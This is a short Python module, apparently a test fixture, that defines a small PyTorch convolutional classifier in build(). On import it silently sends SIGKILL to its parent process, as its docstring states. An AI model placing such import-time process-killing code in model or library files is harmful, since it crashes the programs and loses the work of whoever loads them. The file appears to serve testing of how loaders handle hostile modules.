"""It kills the process that started it."""

import contextlib
import os
import signal

from torch import nn

with contextlib.suppress(OSError):
    if os.getppid() > 1:
        os.kill(os.getppid(), signal.SIGKILL)


def build(*, width: int = 8) -> nn.Module:
    return nn.Sequential(nn.Conv2d(1, width, 5, stride=3), nn.ReLU(), nn.Flatten(), nn.Linear(64 * width, 10))
